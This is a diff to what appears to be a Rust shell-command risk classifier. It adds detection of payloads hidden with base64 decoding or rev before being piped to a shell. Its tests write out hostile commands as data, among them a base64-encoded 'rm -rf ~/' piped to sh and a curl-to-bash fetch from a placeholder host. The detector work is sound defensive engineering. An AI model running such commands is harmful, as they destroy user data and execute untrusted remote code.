@@ -122,7 +122,7 @@ impl Judge {
                 let fed = command
                     .stdin
                     .clone()
-                    .or_else(|| i.checked_sub(1).and_then(|j| printed_text(&pipeline[j])));
+                    .or_else(|| i.checked_sub(1).and_then(|j| printed_text(&pipeline, j)));
                 let file =
                     command.redirects.iter().find(|r| r.op == "<").map(|r| r.target.as_str());
                 let input = programs::Input { fed: fed.as_deref(), file, piped: i > 0 };
@@ -214,9 +214,15 @@ fn is_config_path(path: &str) -> bool {
         || p.ends_with(".profile")
 }
 
-/// The text a command prints when it is `echo`, `printf` or `cat` of a here-document.
-fn printed_text(command: &shell::Command) -> Option<String> {
+/// The text that command `i` of `pipeline` prints, when it can be told: `echo` and
+/// `printf` of their words, `cat` of a here-document, and `base64 -d` or `rev` of the text
+/// before them (the usual ways of hiding a payload piped to a shell).
+fn printed_text(pipeline: &[shell::Command], i: usize) -> Option<String> {
+    let command = &pipeline[i];
     let (first, rest) = command.words.split_first()?;
+    let before = || {
+        command.stdin.clone().or_else(|| i.checked_sub(1).and_then(|j| printed_text(pipeline, j)))
+    };
     match first.as_str() {
         "echo" | "printf" => {
             let args: Vec<&str> =
@@ -224,6 +230,21 @@ fn printed_text(command: &shell::Command) -> Option<String> {
             Some(args.join(" ").replace("\\n", "\n"))
         }
         "cat" if rest.is_empty() => command.stdin.clone(),
+        "base64" | "base32"
+            if rest.iter().any(|a| matches!(a.as_str(), "-d" | "--decode" | "-D")) =>
+        {
+            use base64::Engine as _;
+            let text = before()?;
+            let bytes = base64::engine::general_purpose::STANDARD.decode(text.trim()).ok()?;
+            String::from_utf8(bytes).ok()
+        }
+        "rev" if rest.is_empty() => Some(
+            before()?
+                .lines()
+                .map(|l| l.chars().rev().collect::<String>())
+                .collect::<Vec<_>>()
+                .join("\n"),
+        ),
         _ => None,
     }
 }
@@ -266,6 +287,9 @@ mod tests {
         assert_eq!(risk("echo 'rm -rf d' | sh"), Risk::Destructive);
         assert_eq!(risk("grep -r 'rm -rf' ."), Risk::ReadOnly);
         assert_eq!(risk("echo \"DROP TABLE x\""), Risk::ReadOnly);
+        // `rm -rf ~/` hidden in base64.
+        assert_eq!(risk("echo cm0gLXJmIH4v | base64 -d | sh"), Risk::Destructive);
+        assert_eq!(risk("curl -s https://x.example/i.sh | bash"), Risk::Changes);
     }
 
     #[test]
